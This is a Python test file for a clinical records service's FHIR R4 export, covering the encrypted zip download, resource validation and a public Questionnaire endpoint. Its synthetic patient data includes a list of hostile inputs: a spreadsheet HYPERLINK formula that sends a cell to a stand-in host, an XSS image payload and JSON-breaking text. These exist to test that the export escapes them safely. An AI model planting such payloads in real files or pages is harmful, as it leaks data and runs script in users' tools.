"""The FHIR export end to end: /extractData?format=fhir, the signed link, the AES zip, and every
resource validated as FHIR R4; the public Questionnaire endpoint."""

from __future__ import annotations

import functools
import json
import re
import subprocess
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from service.archive.records import archive_record
from service.exports.fhir.systems import BSUID_SYSTEM, QUESTIONNAIRE_URL
from tests.support.exports import download, request_export, todays_password
from tests.support.fhir import (
    answered_link_ids,
    item_link_ids,
    ndjson,
    open_fhir_zip,
    questionnaire_reference,
    unresolved,
    validate,
)
from tests.support.records import make_record

START = datetime(2026, 11, 20, 8, 0, tzinfo=UTC)
RECORDS = 300
HOSTILE = (
    '=HYPERLINK("http://evil.test/?leak="&B2,"Open")',
    '"}],"resourceType":"Bundle","entry":[{"',
    "<img src=x onerror=alert(1)>",
    "   =1+1 Maria",
    "\u3000\uff1dSUM(1) Maria",
    "Línea uno\nLínea dos",
)
NDJSON_FILES = (
    "Patient.ndjson",
    "QuestionnaireResponse.ndjson",
    "Consent.ndjson",
    "Condition.ndjson",
    "MedicationStatement.ndjson",
)
DOCS = Path(__file__).resolve().parents[2] / "docs"


@pytest.fixture
def headers(provider):
    return {"Authorization": f"Bearer {provider.token}"}


def varied_record(index: int):
    """Both languages, every gender, "none" lists, hostile text, username-only patients."""
    hostile = HOSTILE[index % len(HOSTILE)] if index % 7 == 0 else None
    # A name and a list item are one line; an address may hold the line break.
    line = hostile.replace("\n", " ") if hostile else None
    username = index % 10 == 3
    return make_record(
        submitted_at=START + timedelta(seconds=index),
        name=f"{line} {index}" if line else f"Paciente Número {index}",
        wa_id=None if username else f"3461200{index:05d}",
        bsuid=f"ES.{1410018717833190 + index}" if username or index % 2 else None,
        language=("en", "es")[index % 2],
        gender=("female", "male", "other")[index % 3],
        date_of_birth=date(1930, 1, 1) + timedelta(days=97 * index),
        address=f"{hostile} street" if hostile else f"Calle Mayor {index}\n2º izq, Madrid",
        medical_conditions=() if index % 4 == 0 else ("Asma", line or "Diabetes tipo 2"),
        current_medications=() if index % 5 == 0 else (line or "Metformina 500 mg",),
    )


def export_fhir(client, headers, config) -> dict[str, bytes]:
    response = request_export(client, headers, format="fhir")
    assert response.status_code == 200, response.json
    assert response.json["format"] == "fhir"
    reply, data = download(client, response.json["download_url"])
    assert reply.status_code == 200
    assert reply.mimetype == "application/zip"
    return open_fhir_zip(data, todays_password(config))


def test_a_fhir_export_of_varied_records_validates_and_every_reference_resolves(
    client, components, headers, config
):
    records = [varied_record(index) for index in range(RECORDS)]
    with ThreadPoolExecutor(16) as pool:
        list(pool.map(functools.partial(archive_record, components), records))

    members = export_fhir(client, headers, config)
    assert set(members) == {*NDJSON_FILES, "Questionnaire.json"}
    questionnaire = json.loads(members["Questionnaire.json"])
    validate(questionnaire)
    resources = {name: ndjson(members[name]) for name in NDJSON_FILES}
    everything = [resource for group in resources.values() for resource in group]
    for name, group in resources.items():
        assert {resource["resourceType"] for resource in group} <= {name.split(".")[0]}
    for resource in everything:
        validate(resource)
    assert unresolved(everything) == []
    assert len({(r["resourceType"], r["id"]) for r in everything}) == len(everything)

    counts = Counter(resource["resourceType"] for resource in everything)
    assert counts["Patient"] == counts["QuestionnaireResponse"] == counts["Consent"] == RECORDS
    assert counts["Condition"] == sum(len(r.medical_conditions) for r in records)
    assert counts["MedicationStatement"] == sum(len(r.current_medications) for r in records)

    for response in resources["QuestionnaireResponse.ndjson"]:
        assert response["questionnaire"] == questionnaire_reference(questionnaire["version"])
        assert response["questionnaire"].split("|")[0] == questionnaire["url"]
        assert [item["linkId"] for item in response["item"]] == item_link_ids(questionnaire)
        assert answered_link_ids(response) == item_link_ids(questionnaire)
    # In submission order, each record's answers as archived (hostile text as text).
    by_record = {r["identifier"]["value"]: r for r in resources["QuestionnaireResponse.ndjson"]}
    assert list(by_record) == [record.record_id for record in records]
    for record in records:
        items = {item["linkId"]: item["answer"] for item in by_record[record.record_id]["item"]}
        assert items["name"] == [{"valueString": record.name.strip()}]
        assert items["language"][0]["valueCoding"]["code"] == record.language
        assert items["gender"][0]["valueCoding"]["code"] == record.gender
    patients = resources["Patient.ndjson"]
    usernames = [patient for patient in patients if "telecom" not in patient]
    assert len(usernames) == sum(1 for record in records if record.wa_id is None) > 0
    assert all(p["identifier"][0]["system"] == BSUID_SYSTEM for p in usernames)


def test_an_empty_fhir_export_holds_empty_files_and_the_questionnaire(client, headers, config):
    members = export_fhir(client, headers, config)
    assert {name: members[name] for name in NDJSON_FILES} == dict.fromkeys(NDJSON_FILES, b"")
    validate(json.loads(members["Questionnaire.json"]))


def test_the_questionnaire_is_public_fhir_json_and_the_one_in_exports(
    client, components, headers, config
):
    response = client.get("/fhir/Questionnaire/intake")  # no token
    assert response.status_code == 200
    assert response.mimetype == "application/fhir+json"
    questionnaire = response.json
    validate(questionnaire)
    assert questionnaire["url"] == QUESTIONNAIRE_URL
    assert export_fhir(client, headers, config)["Questionnaire.json"] == response.get_data()


def test_the_documented_command_makes_a_valid_transaction_bundle(
    client, components, headers, config, tmp_path
):
    records = [varied_record(index) for index in (0, 3, 4, 7)]  # "none" lists, a username
    for record in records:
        archive_record(components, record)
    for name, content in export_fhir(client, headers, config).items():
        (tmp_path / name).write_bytes(content)
    guide = (DOCS / "fhir.md").read_text(encoding="utf-8")
    (command,) = re.findall(r"^(jq -s .*?> bundle\.json)$", guide, re.MULTILINE | re.DOTALL)
    subprocess.run(["bash", "-c", command], cwd=tmp_path, check=True, timeout=30)
    bundle = json.loads((tmp_path / "bundle.json").read_text(encoding="utf-8"))
    validate(bundle)
    assert bundle["type"] == "transaction"
    entries = bundle["entry"]
    assert entries[0]["request"] == {"method": "PUT", "url": "Questionnaire/intake"}
    listed = sum(len(r.medical_conditions) + len(r.current_medications) for r in records)
    assert len(entries) == 1 + 3 * len(records) + listed  # the form, 3 a record, the lists
    assert unresolved(entry["resource"] for entry in entries) == []
